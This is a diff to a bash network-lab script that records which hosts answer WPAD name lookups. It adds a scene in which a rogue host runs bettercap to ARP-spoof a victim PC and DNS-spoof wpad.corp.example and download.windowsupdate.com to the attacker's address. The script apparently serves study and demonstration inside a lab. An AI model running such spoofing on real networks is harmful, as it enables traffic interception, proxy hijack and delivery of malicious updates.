@@ -1,6 +1,6 @@
 #!/usr/bin/env bash
 # Records captures/names: who answers for wpad. Usage: names.sh [SCENE...]; without arguments all scenes.
-# Packages: lab.sh's, and samba samba-common-bin avahi-daemon avahi-utils dnsmasq-base bind9-dnsutils dsniff nginx-light curl python3.
+# Packages: lab.sh's, and samba samba-common-bin avahi-daemon avahi-utils dnsmasq-base bind9-dnsutils dsniff nginx-light curl python3 bettercap.
 . "$(dirname "$0")/lab.sh"
 
 # nmbd calls itself WPAD: it registers the name by broadcast, answers the lookup and serves a PAC that makes it everybody's proxy.
@@ -222,6 +222,23 @@ scene_wpad_name_leak() {
   lease pc
   for name in wpad.sales.corp.example wpad.corp.example wpad.example; do try pc dig +tries=1 +time=1 @10.1.0.1 $name; done
   try pc dig +tries=1 +time=1 @9.9.9.9 wpad.sales.corp.example
+}
+
+# bettercap stands in the way by ARP and answers for two names before the resolver, whose answer comes all the same.
+scene_bettercap_dns() {
+  lab_host gw 3c:52:82:11:00:01 10.1.0.1/24
+  lab_host rogue 00:0c:29:6e:00:66 10.1.0.66/24
+  lab_host pc 3c:52:82:11:00:21 10.1.0.21/24
+  dns_dhcp gw --port=5300 --address=/#/192.0.2.80
+  daemon gw python3 "$make_dir/slow_forwarder.py" 10.1.0.1 5300 0.5
+  pause 1
+  record_start
+  try pc dig +tries=1 +time=2 @10.1.0.1 www.example.org
+  for address in 1 21; do try rogue ping -c1 -W1 10.1.0.$address; done
+  daemon rogue bettercap -iface eth0 -gateway-override 10.1.0.1 -no-colors -eval 'set arp.spoof.targets 10.1.0.21; set arp.spoof.fullduplex true;
+    set dns.spoof.domains wpad.corp.example,download.windowsupdate.com; set dns.spoof.address 10.1.0.66; set dns.spoof.all true; arp.spoof on; dns.spoof on'
+  pause 5
+  for name in www.example.org wpad.corp.example download.windowsupdate.com; do try pc dig +noedns +tries=1 +time=2 @10.1.0.1 $name; pause 1; done
 }
 
 run_scenes names "$@"
